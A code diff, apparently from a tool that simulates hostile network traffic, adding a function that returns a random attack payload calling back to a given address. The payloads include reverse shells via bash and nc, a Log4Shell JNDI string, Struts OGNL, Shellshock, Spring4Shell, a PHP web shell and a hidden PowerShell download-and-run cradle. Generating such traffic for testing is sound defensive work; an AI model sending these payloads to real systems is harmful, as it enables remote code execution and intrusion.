@@ -71,3 +71,21 @@ export const SCANNER_AGENTS = [
   'gobuster/3.5', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)', 'Nuclei - Open-source project', 'masscan/1.3', 'Wfuzz/2.4',
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/96.0', 'feroxbuster/2.7.1', 'python-requests/2.28.1',
 ] as const; // prettier-ignore
+
+/** Code that a hole in a service runs: it calls the attacker back, or shows that it ran. */
+export function exploitCode(random: Random, ownAddress: string, port: number): string {
+  const mark = randomText(random, ALPHABETS.letters, random.integer(4, 9));
+  const home = ownAddress.includes(':') ? `[${ownAddress}]` : ownAddress;
+  return random.pick([
+    `\${jndi:${random.pick(['ldap', 'rmi', 'dns'])}://${home}:${port}/${mark}}`,
+    `bash -i >& /dev/tcp/${home}/${port} 0>&1`,
+    `%{(#_='multipart/form-data').(#cmd='${mark}').(#p=new java.lang.ProcessBuilder('sh','-c',#cmd)).(#p.start())}`,
+    `() { :;}; /bin/bash -c "wget http://${home}:${port}/${mark}"`,
+    `;nc ${home} ${port} -e /bin/sh`,
+    `<?php system($_GET["${mark}"]); ?>`,
+    `{{''.__class__.__mro__[1].__subclasses__()}}${mark}`,
+    `$(curl http://${home}:${port}/${mark}|sh)`,
+    `class.module.classLoader.resources.context.parent.pipeline.first.pattern=${mark}`,
+    `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://${home}:${port}/${mark}')"`,
+  ]);
+}
